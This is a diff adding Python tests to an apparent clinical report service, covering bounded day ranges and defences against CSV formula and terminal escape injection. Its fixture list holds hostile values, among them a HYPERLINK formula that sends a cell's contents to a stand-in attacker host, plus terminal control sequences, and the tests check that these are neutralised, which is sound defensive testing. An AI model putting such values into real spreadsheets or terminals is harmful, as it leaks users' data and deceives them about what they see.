@@ -322,3 +322,87 @@ def test_the_installed_command_prints_the_report(seeded: str) -> None:
                             capture_output=True, text=True, timeout=60)
     assert result.returncode == 0, result.stderr
     assert without_meta(json.loads(result.stdout)) == EXPECTED_ALL
+
+
+# --- issue 13: bounded day range, CSV and terminal injection -----------------------------------------------------
+
+def test_feedback_dated_year_1_and_9999_does_not_stretch_the_day_range(tmp_path: Path, monkeypatch, capsys) -> None:
+    """Dates outside the window feedback accepts (stored before it was checked, so put in directly) made the
+    html report take 12.6 s and 1.2 GB: they are counted in the totals, left out per day, and said so."""
+    url = f"sqlite:///{tmp_path / 'dates.sqlite3'}"
+    store = Store(url)
+    store.record_cards([card_row("C1", issued_at=at(1))])
+    store.close()
+    outside = [datetime(1, 1, 1, tzinfo=timezone.utc), datetime(9999, 12, 31, 23, 59, tzinfo=timezone.utc),
+               datetime(1999, 12, 31, tzinfo=timezone.utc), datetime.now(timezone.utc) + timedelta(days=3)]
+    store.add_feedback([feedback_row("C1", outcome_timestamp=at(2))] +
+                       [feedback_row("C1", outcome_timestamp=when) for when in outside])
+    monkeypatch.setenv("CDS_DATABASE_URL", url)
+
+    code, out, _ = report(capsys, "--format", "json")
+    body = json.loads(out)
+    assert code == 0 and body["feedback_received"] == 5 and body["overridden"] == 5  # all in the totals
+    assert list(body["by_day"]) == ["2024-05-01", "2024-05-02"]  # only what lies inside the window
+    assert "4 record(s)" in body["by_day_note"]
+
+    code, page, _ = report(capsys, "--format", "html")
+    assert code == 0 and "4 record(s)" in page
+    assert page.count("<title>") <= 10  # two days of bars, not 3.6 million
+    code, text, _ = report(capsys, "--format", "table")
+    assert code == 0 and "4 record(s)" in text
+    code, out, _ = report(capsys, "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert {r["day"] for r in rows} == {"", "2024-05-01", "2024-05-02"}
+    assert [r["value"] for r in rows if r["metric"] == "records_not_shown_per_day"] == ["4"]
+
+
+def test_a_period_longer_than_the_cap_keeps_the_latest_days(tmp_path: Path, monkeypatch, capsys) -> None:
+    from cds_service.report import MAX_REPORT_DAYS
+
+    url = f"sqlite:///{tmp_path / 'long.sqlite3'}"
+    store = Store(url)
+    last = datetime(2024, 5, 1, tzinfo=timezone.utc)
+    first = last - timedelta(days=MAX_REPORT_DAYS + 100)
+    store.add_feedback([feedback_row("C1", outcome_timestamp=first), feedback_row("C1", outcome_timestamp=last)])
+    monkeypatch.setenv("CDS_DATABASE_URL", url)
+    code, out, _ = report(capsys, "--format", "json")
+    body = json.loads(out)
+    assert code == 0 and body["feedback_received"] == 2
+    assert list(body["by_day"]) == ["2024-05-01"] and "1 record(s) dated before" in body["by_day_note"]
+    chart = day_chart({first.date(): Day(accepted=1), last.date(): Day(accepted=1)})
+    assert len(chart["bars"]) <= MAX_REPORT_DAYS // 7 + 1 and chart["last"] == "2024-05-01"
+
+
+HOSTILE_CODES = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx=1",
+                 "\rx=1", "\x1b]0;pwned\x07", "ok-code"]
+
+
+@pytest.fixture
+def hostile(tmp_path: Path, monkeypatch) -> str:
+    url = f"sqlite:///{tmp_path / 'hostile.sqlite3'}"
+    store = Store(url)
+    store.add_feedback([feedback_row("x", override_code=code, override_display="Display\x1b[2J\r\nfake line"
+                                     if code == "ok-code" else None) for code in HOSTILE_CODES])
+    monkeypatch.setenv("CDS_DATABASE_URL", url)
+    return url
+
+
+def test_csv_cells_never_start_a_formula(hostile: str, capsys) -> None:
+    code, out, _ = report(capsys, "--format", "csv")
+    assert code == 0
+    rows = list(csv.DictReader(io.StringIO(out)))
+    reasons = {r["category"]: r["value"] for r in rows if r["policy_version"] == "all"
+               and r["metric"] == "override_reasons"}
+    assert set(reasons) == {"'" + c if c[0] in "=+-@\t\r\x1b" else c for c in HOSTILE_CODES}
+    for row in rows:
+        for cell in row.values():
+            assert not cell or cell[0] not in "=+-@\t\r\n\x1b", row
+    assert all(float(r["value"]) >= 0 for r in rows if r["value"])  # values are still plain numbers
+
+
+def test_table_shows_control_characters_as_escapes(hostile: str, capsys) -> None:
+    code, out, _ = report(capsys, "--format", "table")
+    assert code == 0
+    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", out)  # nothing but line feeds between the lines
+    assert "\\u001b]0;pwned\\u0007" in out and "fake line" in out
+    assert not any(line.startswith("fake line") for line in out.splitlines())  # no line of its own
